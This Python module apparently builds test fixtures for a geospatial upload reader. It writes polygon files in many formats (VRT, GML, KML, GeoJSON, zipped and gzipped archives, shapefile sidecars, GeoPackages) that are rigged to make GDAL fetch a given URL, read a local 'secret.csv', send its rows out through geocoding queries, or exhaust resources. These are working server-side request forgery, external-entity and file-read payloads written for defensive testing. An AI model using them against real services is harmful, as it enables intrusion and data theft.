"""Files that stand where polygons are asked for, and would have a reader open what they name."""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import zipfile
from typing import TYPE_CHECKING, Any

import geopandas
import shapely

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

DEGREES = (
    'GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,298.257223563]],'
    'PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]'
)
SQUARE: dict[str, Any] = {
    "type": "Polygon",
    "coordinates": [[[70, 48], [71, 48], [71, 49], [70, 49], [70, 48]]],
}


def feature_collection(**more: Any) -> dict[str, Any]:
    """Return a district as GeoJSON, with more members."""
    feature = {"type": "Feature", "properties": {"name": "Aq"}, "geometry": SQUARE}
    return {"type": "FeatureCollection", "features": [feature], **more}


def write_good(path: Path) -> Path:
    """Write a district in the format that the ending names."""
    shapes = [shapely.box(70, 48, 71, 49)]
    geopandas.GeoDataFrame({"name": ["Aq"]}, geometry=shapes, crs=4326).to_file(path)
    return path


def write_hostile(folder: Path, url: str) -> dict[str, list[Path]]:
    """Write files of eight kinds that name an address, or a file beside them; return their paths.

    Parameters
    ----------
    folder
        Where they are written; ``secret.csv`` there is one that nobody may read.
    url
        The address.
    """
    (folder / "secret.csv").write_text("name,lat,lon\nAq,48,70\n", encoding="utf-8")
    kinds: dict[str, Iterator[str | bytes]] = {
        "vrt": _vrt(url),
        "services": _services(url),
        "links": _links(url),
        "markup": _markup(url),
        "json": _json(url),
        "packed": _packed(url),
    }
    paths: dict[str, list[Path]] = {}
    content: str | bytes
    for kind, contents in kinds.items():
        for number, content in enumerate(contents):
            path = folder / f"{kind}{number}.geojson"
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
            paths.setdefault(kind, []).append(path)
    paths["shapefiles"] = list(_shapefiles(folder, url))
    paths["geopackages"] = list(_geopackages(folder, url))
    return paths


def _vrt(url: str) -> Iterator[str]:
    layer = '<OGRVRTDataSource><OGRVRTLayer name="a">{}</OGRVRTLayer></OGRVRTDataSource>'
    yield layer.format(f"<SrcDataSource>{url}/a.geojson</SrcDataSource>")
    yield layer.format(f"<SrcDataSource>/vsicurl/{url}/a.geojson</SrcDataSource>")
    geocoded = f"SELECT ogr_geocode(name, 'geometry', '{url}/?q=%s') FROM secret"  # noqa: S608
    source = '<SrcDataSource relativeToVRT="1">secret.csv</SrcDataSource>'
    yield layer.format(f'{source}<SrcSQL dialect="SQLite">{geocoded}</SrcSQL>')
    yield layer.format(f"{source}<SrcLayer>secret</SrcLayer>")
    union = '<OGRVRTDataSource><OGRVRTUnionLayer name="u"><OGRVRTLayer name="a">{}</OGRVRTLayer>'
    union += "</OGRVRTUnionLayer></OGRVRTDataSource>"
    yield "\n\n" + union.format(f"<SrcDataSource>WFS:{url}/</SrcDataSource>")
    yield json.dumps(feature_collection(note=layer.format(f"{url}/"))) + layer.format(url)


def _services(url: str) -> Iterator[str]:
    yield f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>"
    yield f"<OGRCSWDataSource><URL>{url}/csw</URL></OGRCSWDataSource>"
    yield f"<GDAL_WMS><Service name='WMS'><ServerUrl>{url}/</ServerUrl></Service></GDAL_WMS>"
    yield f"WFS:{url}/wfs"
    command = f"gdal vector pipeline ! read {url}/a.geojson ! write streamed"
    yield json.dumps({"type": "gdal_streamed_alg", "command_line": command})


def _links(url: str) -> Iterator[str]:
    link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "esriwkt"}}
    yield json.dumps(feature_collection(crs=link))
    yield json.dumps(feature_collection(crs={**link, "properties": {"href": "secret.csv"}}))
    yield json.dumps(SQUARE | {"crs": link})
    yield json.dumps({"type": "Feature", "properties": {}, "geometry": SQUARE | {"crs": link}})
    for name in (f"{url}/crs", f"+proj=longlat +nadgrids={url}/grid +type=crs", "@secret.csv"):
        yield json.dumps(feature_collection(crs={"type": "name", "properties": {"name": name}}))


def _markup(url: str) -> Iterator[str]:
    gml = 'xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    members = "<gml:featureMember/>"
    yield (
        f'<gml:FeatureCollection {gml} xsi:schemaLocation="urn:a {url}/a.xsd">{members}'
        "</gml:FeatureCollection>"
    )
    yield (
        f'<!DOCTYPE a SYSTEM "{url}/a.dtd" [<!ENTITY e SYSTEM "{url}/e">]>'
        f"<gml:FeatureCollection {gml}>&e;</gml:FeatureCollection>"
    )
    kml = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
    yield kml.format(f"<NetworkLink><Link><href>{url}/a.kml</href></Link></NetworkLink>")
    yield kml.format(f"<Placemark><styleUrl>{url}/s.kml#s</styleUrl></Placemark>")
    yield f'<mapml- ><map-link href="{url}/"/></mapml->'
    yield f'<!DOCTYPE g SYSTEM "{url}/g.dtd"><gpx version="1.1"></gpx>'


def _json(url: str) -> Iterator[str]:
    server = {"geometryType": "esriGeometryPolygon", "exceededTransferLimit": True, "features": []}
    yield json.dumps(server | {"url": f"{url}/FeatureServer/0/query?f=json"})
    yield json.dumps({"type": "Topology", "objects": {}, "arcs": [], "crs": f"{url}/"})
    yield json.dumps({"tilejson": "2.2.0", "tiles": [f"{url}/{{z}}/{{x}}/{{y}}.pbf"]})
    yield json.dumps({"links": [{"rel": "data", "href": f"{url}/collections"}], "conformsTo": []})
    yield json.dumps({"type": "Catalog", "stac_version": "1.0.0", "links": [{"href": url}]})


def _packed(url: str) -> Iterator[bytes]:
    vrt = next(_vrt(url)).encode()
    for name, content in (("doc.kml", list(_markup(url))[2].encode()), ("a.vrt", vrt)):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr(name, content)
        yield packed.getvalue()
    yield gzip.compress(vrt)
    yield vrt.decode().encode("utf-16")
    yield f"a,b\n{url},/vsicurl/{url}\n".encode()


def _shapefiles(folder: Path, url: str) -> Iterator[Path]:
    grid = f'{DEGREES},EXTENSION["PROJ4","+proj=longlat +nadgrids={url}/g +no_defs"]]'
    method = (
        f'PROJCRS["a",BASEGEOGCRS["b",DATUM["c",ELLIPSOID["d",6378137,298]]],CONVERSION["e",'
        f'METHOD["PROJ longlat nadgrids={url}/g"]],CS[ellipsoidal,2]]'
    )
    bound = (
        f'BOUNDCRS[SOURCECRS[{DEGREES}]],TARGETCRS[{DEGREES}]],ABRIDGEDTRANSFORMATION["t",'
        f'METHOD["NTv2"],PARAMETERFILE["Latitude and longitude difference file","{url}/g"]]]'
    )
    sidecars = {
        "grid": (".prj", grid),
        "method": (".prj", method),
        "bound": (".prj", bound),
        "address": (".prj", f"{url}/crs"),
        "encoding": (".cpg", f"{url}/utf-8"),
        "table": (".dbf", next(_vrt(url))),
    }
    for name, (end, text) in sidecars.items():
        path = write_good(folder / f"{name}.shp")
        path.with_suffix(end).write_text(text, encoding="utf-8")
        yield path


def _geopackages(folder: Path, url: str) -> Iterator[Path]:
    grid = f'{DEGREES},EXTENSION["PROJ4","+proj=longlat +nadgrids={url}/g +no_defs"]]'
    geocoded = f"SELECT 1 AS fid, ogr_geocode('Aq', 'geometry', '{url}/') AS geom"
    unlimited = "WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n) "
    unlimited += "SELECT fid, NULL AS geom FROM n"
    renamed = "ALTER TABLE {0} RENAME TO plain; "
    schema = "UPDATE sqlite_master SET sql = {} WHERE name = '{{0}}'"
    scripts = {
        "grid": "UPDATE gpkg_spatial_ref_sys SET organization = 'own', "  # noqa: S608
        f"definition = '{grid}' WHERE srs_id = 4326",
        "view": renamed + f'CREATE VIEW "{{0}}" AS {geocoded}',
        "recursive": renamed + 'CREATE VIEW "{0}" AS ' + unlimited,
        "virtual": renamed + 'CREATE VIRTUAL TABLE "{0}" USING fts5(fid, geom)',
        "computed": "ALTER TABLE {0} ADD COLUMN more AS (hex(zeroblob(1000000)))",
        "another": "PRAGMA writable_schema = ON; "
        + schema.format(f"'CREATE VIRTUAL TABLE \"{{0}}\" USING VirtualOGR(''{url}'')'"),
    }
    for name, script in scripts.items():
        path = write_good(folder / f"package_{name}.gpkg")
        database = sqlite3.connect(path)
        (layer,) = database.execute("SELECT table_name FROM gpkg_contents").fetchone()
        drop = database.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall()
        for (trigger,) in drop:
            database.execute(f'DROP TRIGGER "{trigger}"')
        database.executescript(script.format(layer))
        database.commit()
        database.close()
        yield path
